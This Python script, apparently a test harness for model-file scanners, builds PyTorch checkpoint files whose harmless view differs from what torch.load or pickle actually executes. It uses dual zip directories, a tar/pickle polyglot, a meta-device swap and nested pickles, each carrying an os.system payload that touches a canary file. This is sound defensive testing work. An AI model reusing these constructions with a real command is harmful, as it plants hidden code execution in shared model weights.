"""Builds parser-differential attack files with real PyTorch, and loads files
the way PyTorch and Python would.

  attacks.py make DIR CANARY   write one file per attack class into DIR; each
                               runs `touch CANARY` when PyTorch or Python loads it
  attacks.py load KIND FILE    load FILE with torch.load (KIND torch) or
                               pickle.load (KIND pickle); print the state_dict
                               as JSON (name, dtype, shape, sha256 of the bytes)

Every attack file carries a harmless view (what a reader that follows the
wrong structure sees) and a payload (what PyTorch or pickle actually runs).
Run with Debian's /usr/bin/python3.
"""

import collections
import hashlib
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import torch  # noqa: E402


def payload_pickle(canary):
    # protocol 0: os.system('touch CANARY'); returns the exit status
    return b"cos\nsystem\n(S'touch " + canary.encode() + b"'\ntR."


def benign_zip():
    buf = io.BytesIO()
    torch.save(collections.OrderedDict(w=torch.arange(4, dtype=torch.float32)), buf)
    return buf.getvalue()


def benign_storage_zip():
    buf = io.BytesIO()
    torch.save(torch.arange(4, dtype=torch.float32).storage(), buf)
    return buf.getvalue()


def zip_entries(data):
    """Splits a torch.save zip into its records: [(name, local header with
    data and descriptor, crc, size)]."""
    out, p = [], 0
    while data[p:p + 4] == b"PK\x03\x04":
        flags = struct.unpack_from("<H", data, p + 6)[0]
        nl, el = struct.unpack_from("<HH", data, p + 26)
        name = data[p + 30:p + 30 + nl]
        start = p + 30 + nl + el
        assert flags & 8
        q = data.index(b"PK\x07\x08", start)
        crc, cs, us = struct.unpack_from("<III", data, q + 4)
        assert q == start + cs
        out.append((name, data[p:q + 16], crc, cs))
        p = q + 16
    return out


def local_record(name, body):
    """A stored record with sizes in its local header (no descriptor)."""
    crc = zlib.crc32(body)
    hdr = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(body), len(body), len(name), 0)
    return hdr + name + body, crc


def central(name, crc, size, off, flags=0):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0, crc, size, size,
                       len(name), 0, 0, 0, 0, 0, off) + name


def two_directories(evil_pkl, benign, evil_name=b"archive/data.pkl"):
    """A zip whose classic end record lists the benign archive's records and
    whose zip64 end record lists the same records but another evil_name
    record holding evil_pkl."""
    recs = zip_entries(benign)
    assert any(n == evil_name for n, _, _, _ in recs)
    body = bytearray()
    cd1 = bytearray()
    offsets = {}
    for name, raw, crc, cs in recs:
        offsets[name] = len(body)
        body += raw
        cd1 += central(name, crc, cs, offsets[name], flags=0x808)
    evil_off = len(body)
    rec, evil_crc = local_record(evil_name, evil_pkl)
    body += rec
    cd2 = bytearray()
    for name, raw, crc, cs in recs:
        if name == evil_name:
            cd2 += central(name, evil_crc, len(evil_pkl), evil_off)
        else:
            cd2 += central(name, crc, cs, offsets[name], flags=0x808)
    # the zip64 directory first: a reader following the classic record reads
    # consecutive central headers and must stop at the zip64 end record
    cd2_off = len(body)
    body += cd2
    cd1_off = len(body)
    body += cd1
    z64_off = len(body)
    n = len(recs)
    body += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, n, n, len(cd2), cd2_off)
    body += struct.pack("<IIQI", 0x07064B50, 0, z64_off, 1)
    body += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd1), cd1_off, 0)
    return bytes(body)


class _Blob:
    """Pickles as torch.storage._load_from_bytes(data)."""

    def __init__(self, data):
        self.data = data

    def __reduce__(self):
        return (torch.storage._load_from_bytes, (self.data,))


class _Tensor:
    """Pickles as _rebuild_tensor_v2 over a nested blob of 4 float32 elements."""

    def __init__(self, blob):
        self.blob = blob

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2,
                (_Blob(self.blob), 0, (4,), (1,), False, collections.OrderedDict()))


def tar_polyglot(canary, legacy):
    """A legacy torch file whose magic-number pickle starts with BINBYTES
    (then POP) holding a tar archive; the tar header at offset 0 spans the
    pickle's first bytes, and its 'storages' member is a payload pickle."""
    # the first pickle of the legacy file: the magic number
    f = io.BytesIO(legacy)
    pickle.load(f)
    rest = legacy[f.tell():]
    magic = legacy[:f.tell()]
    assert magic[:2] == b"\x80\x02"
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (("pad", b""), ("storages", payload_pickle(canary))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    t = bytearray(tbuf.getvalue())
    prefix_len = 2 + 1 + 4  # PROTO 3, BINBYTES, length
    prefix = b"\x80\x03B" + struct.pack("<I", len(t) - prefix_len)
    t[:prefix_len] = prefix
    t[148:156] = b"        "
    chk = sum(t[:512])
    t[148:156] = b"%06o\x00 " % chk
    # POP the bytes, then the original magic-number pickle without its PROTO
    first = bytes(t) + b"0" + magic[2:]
    return first + rest


def meta_location_zip():
    """A torch.save zip whose storage location is "meta" but which still
    holds the storage's bytes: torch.load gives a tensor without data (on
    the meta device), a reader that ignores the location the bytes."""
    buf = io.BytesIO()
    torch.save(collections.OrderedDict(w=torch.arange(4, dtype=torch.float32)), buf)
    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    w = torch._C.PyTorchFileWriter(out)
    for name in z.namelist():
        data = z.read(name)
        if name.endswith("/data.pkl"):
            assert data.count(b"X\x03\x00\x00\x00cpu") == 1
            data = data.replace(b"X\x03\x00\x00\x00cpu", b"X\x04\x00\x00\x00meta")
        w.write_record(name.split("/", 1)[1], data, len(data))
    w.write_end_of_file()
    return out.getvalue()


def legacy_state_dict():
    buf = io.BytesIO()
    torch.save(collections.OrderedDict(w=torch.arange(4, dtype=torch.float32)), buf,
               _use_new_zipfile_serialization=False)
    return buf.getvalue()


def make(out, canary):
    os.makedirs(out, exist_ok=True)
    evil = payload_pickle(canary)
    files = {
        "zip_two_directories.pt": two_directories(evil, benign_zip()),
        "tar_polyglot.pt": tar_polyglot(canary, legacy_state_dict()),
    }
    # no code, other weights: the zip64 directory's data/0 holds 4 other floats
    files["zip_two_directories_weights.pt"] = two_directories(
        bytes(torch.full((4,), 7.0).numpy().tobytes()), benign_zip(), b"archive/data/0")
    nested = two_directories(evil, benign_storage_zip())
    files["zip_meta_location.pt"] = meta_location_zip()
    files["nested_two_directories.pkl"] = pickle.dumps(collections.OrderedDict(w=_Tensor(nested)), protocol=4)
    for name, data in files.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


def plain_state_dict(obj, prefix=""):
    """state_dict() of an object that holds a module's state but whose class
    (embedded source of a persistent class) is not a torch.nn.Module."""
    d, out = obj.__dict__, collections.OrderedDict()
    skip = d.get("_non_persistent_buffers_set", set())
    for k, v in d.get("_parameters", {}).items():
        if v is not None:
            out[prefix + k] = v
    for k, v in d.get("_buffers", {}).items():
        if v is not None and k not in skip:
            out[prefix + k] = v
    for k, v in d.get("_modules", {}).items():
        if v is not None:
            out.update(plain_state_dict(v, prefix + k + "."))
    return out


def describe(obj):
    if hasattr(obj, "state_dict"):
        obj = obj.state_dict()
    elif not isinstance(obj, dict):
        obj = plain_state_dict(obj)
    out = []
    for k, v in obj.items():
        t = v.detach().contiguous()
        if t.device.type == "meta":  # no data to hash
            out.append(dict(name=k, dtype=str(t.dtype), shape=list(t.shape), sha256=None, device="meta"))
            continue
        data = bytes(t.reshape(-1).view(torch.uint8).numpy()) if t.numel() else b""
        out.append(dict(name=k, dtype=str(t.dtype), shape=list(t.shape), sha256=hashlib.sha256(data).hexdigest(), device=str(t.device)))
    return out


def load(kind, path):
    warnings.simplefilter("ignore")
    with open(path, "rb") as f:
        obj = torch.load(f) if kind == "torch" else pickle.load(f)
    if kind == "pickle" and isinstance(obj, dict) and "ema" in obj:
        obj = obj["ema"]
    print(json.dumps(describe(obj)))


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "make":
        make(sys.argv[2], sys.argv[3])
    elif cmd == "load":
        load(sys.argv[2], sys.argv[3])
    else:
        sys.exit("usage: attacks.py make DIR CANARY | load torch|pickle FILE")
